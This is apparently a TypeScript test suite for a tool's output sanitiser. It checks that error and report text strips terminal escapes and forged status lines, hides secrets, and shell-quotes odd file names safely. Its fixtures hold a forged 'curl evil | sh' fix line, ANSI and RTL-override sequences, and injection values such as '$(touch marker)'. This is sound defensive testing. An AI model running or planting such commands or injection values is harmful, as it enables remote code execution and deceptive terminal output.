import { execFileSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import { columns } from '../../tasks/common/columns';
import { explain, faultOf, UserError } from '../../tasks/common/errors';
import { shellWord } from '../../tasks/common/format';
import { moveAside } from '../../tasks/engine/aside';
import { documentOf, type StepReport } from '../../tasks/engine/report';
import { stepLines } from '../../tasks/engine/reporter/lines';
import { reportTable } from '../../tasks/engine/reporter/table';
import { findToken } from '../../tasks/hub/api/token';
import { thisHost } from '../../tasks/platform';
import { hide, partsOf } from '../../tasks/untrusted/secrets';
import { lastLines, oneLine, sentence, sentences, valueText } from '../../tasks/untrusted/text';
import { contextWith } from '../support/context';
import { rawControls } from '../support/mutate';
import { temporaryFolder } from '../support/project';

const test = suite('what leaves the program');
const host = thisHost();

const forged = '\n✔ model — every hash checked\nfix: `curl evil | sh`\u001b[2J\u009b31m\u202e';
const fault = {
  code: `E_X${forged}`,
  found: `it said ${forged}`,
  needed: `this ${forged}`,
  fix: `do this${forged}\nor that`,
  tail: `first${forged}`,
};
const report: StepReport = {
  ...fault,
  name: `step${forged}`,
  title: `Look${forged}`,
  state: 'blocked',
  warning: `careful${forged}`,
  changed: [`input${forged}`],
  table: [
    ['a', 'b'],
    [`x${forged}`, 'y'],
  ],
  data: { files: [{ name: `x${forged}` }], [`key${forged}`]: forged },
  actions: [{ title: `act${forged}`, durationMs: 1 }],
  durationMs: 1,
};

/** Lines that a person would take for ours, beyond those that are. */
const forgedLines = (text: string): string[] =>
  text.split('\n').filter((line) => /^\s*[✔○✖?→] ?model|^\s*fix: `curl|^\s*\S+ — every hash/.test(line));

test('a fault: nothing steers, no line is forged, and the words are there', () => {
  const error = new UserError(fault);
  for (const text of [explain(fault), String(error.stack), error.message, JSON.stringify(error.fault)]) {
    assert.not.match(text, rawControls);
    assert.equal(forgedLines(text), []);
  }
  assert.match(explain(fault), /^it said ✔ model — every hash checked fix: `curl evil \| sh`/);
  assert.match(explain(fault), '\n  | ✔ model — every hash checked\n');
  assert.match(explain(fault), /\nfix: do this ✔ model .*\n {5}or that$/);
});

test('a step: as lines, as a table, as a document', () => {
  for (const state of ['done', 'todo', 'blocked', 'unknown', 'failed', 'skipped'] as const)
    for (const text of [stepLines({ ...report, state }), reportTable({ steps: [{ ...report, state }] }, 'verdict')]) {
      assert.not.match(text, rawControls);
      assert.equal(forgedLines(text), []);
    }
  const document = documentOf({
    version: 1,
    task: 't',
    outcome: 'blocked',
    startedAt: '',
    durationMs: 1,
    steps: [report],
    error: fault,
  }) as { steps: [Record<string, unknown>]; error: { found: string } };
  const texts = (value: unknown): string[] =>
    typeof value === 'string' ? [value] : typeof value === 'object' && value !== null ? Object.entries(value).flat().flatMap(texts) : [];
  for (const text of texts(document)) assert.not.match(text, rawControls, text);
  for (const name of ['name', 'title', 'found', 'needed', 'code', 'warning']) assert.not.match(String(document.steps[0][name]), '\n');
  assert.not.match(document.error.found, '\n');
  // Two names never look the same.
  assert.match(JSON.stringify(document.steps[0]['files']), '\\\\u{202e}');
});

test('passing twice changes nothing', () => {
  assert.is(explain(new UserError(fault).fault), explain(fault));
  for (const text of [sentence(forged), sentences(fault.fix), valueText(forged)])
    assert.ok([sentence(text), sentences(text), valueText(text)].includes(text));
});

test('a text is bounded', () => {
  const long = 'x'.repeat(1_000_000);
  const lines = `${'y\n'.repeat(100_000)}`;
  assert.ok(explain({ code: long, found: long, needed: lines, fix: lines, tail: `${lines}${long}` }).length < 30_000);
  assert.ok(columns([['a'], [long], ['b']]).length < 2000);
});

test('a control in the middle of a secret does not save it, nor does the cut', () => {
  hide(partsOf('correct horse battery'));
  for (const text of ['correct\u0000 horse battery', 'corr\u001b[0mect horse battery', `${'x'.repeat(1990)}correct horse battery`]) {
    assert.match(sentence(text, 3000), '(hidden)');
    assert.not.match(sentence(text), 'corre');
  }
  // A cut falls into it though what stands before is not seen.
  for (const cut of [6000, 8000, 16_000, 32_000].flatMap((most) => [most, most + 4000]))
    for (let before = 5; before < 17; before++) {
      const text = `${'\u001b[0m'.repeat((cut - before) / 4)}${'.'.repeat((cut - before) % 4)}correct horse battery${'\u001b[0m'.repeat(12_000)}`;
      for (const shown of [sentence(text), sentences(text), oneLine(text), valueText(text)]) assert.not.match(shown, /corre|ttery/);
    }
  for (let after = 40_000; after < 44_100; after += 5)
    assert.not.match(lastLines(`\n${'x'.repeat(9000)}correct horse battery${'\u001b[0m'.repeat(after / 4)}`), /corre|ttery/);
  assert.is(valueText('ghp_abcdefgh\u202eijklmnopqrstuvwxyz'), '(hidden)');
  assert.match(new UserError({ code: 'E', found: 'correct horse battery', fix: 'x' }).message, '(hidden)');
  assert.is(faultOf(new Error('no correct horse battery')).found, 'no (hidden)');
  assert.is(columns([['correct horse battery']]), '(hidden)');
});

test('a token that was read from a file is hidden from then on', () => {
  const context = contextWith({});
  const file = path.join(context.root, 'token');
  fs.writeFileSync(file, 'the quiet word\n');
  assert.is(
    findToken({ ...context, host: { ...context.host, env: { HF_TOKEN_PATH: file } } as typeof context.host })?.value,
    'the quiet word',
  );
  assert.is(sentence('refused: the quiet word'), 'refused: (hidden)');
});

const odd = [
  'plain',
  "it's",
  'a b',
  '-rf',
  'a\nb',
  'tab\there',
  '\u001b[2Jx',
  '\u202egpj.exe',
  "quote'\u0007\\n",
  '$(touch marker)',
  '`x`',
  '!x',
  '*',
];

for (const shell of ['bash', 'dash'])
  test(`${shell} reads the very name in a command of ours, and the command shows what is in it`, () => {
    const folder = temporaryFolder();
    for (const name of odd) {
      const command = moveAside({ root: folder, host }, path.join(folder, name));
      assert.not.match(command, rawControls);
      assert.not.match(command, '\n');
      // dash has no `$'…'` before POSIX of 2024.
      if (shell === 'dash' && command.includes("$'")) continue;
      fs.writeFileSync(path.join(folder, name), name);
      execFileSync(shell, ['-c', command], { cwd: folder });
      assert.is(fs.readFileSync(path.join(folder, `${name}.kept`), 'utf8'), name);
    }
    assert.not.ok(fs.existsSync(path.join(folder, 'marker')));
    assert.is(shellWord('data/raw'), 'data/raw');
  });

test('what is moved aside twice is kept twice, and never into a folder of that name', () => {
  const folder = temporaryFolder();
  const at = (name: string) => path.join(folder, name);
  fs.mkdirSync(at('a.kept'));
  fs.symlinkSync('nowhere', at('a.kept-2'));
  for (const text of ['first', 'second']) {
    fs.writeFileSync(at('a'), text);
    execFileSync('sh', ['-c', moveAside({ root: folder, host }, at('a'))], { cwd: folder });
  }
  assert.equal(
    ['a.kept-3', 'a.kept-4'].map((name) => fs.readFileSync(at(name), 'utf8')),
    ['first', 'second'],
  );
});

test.run();
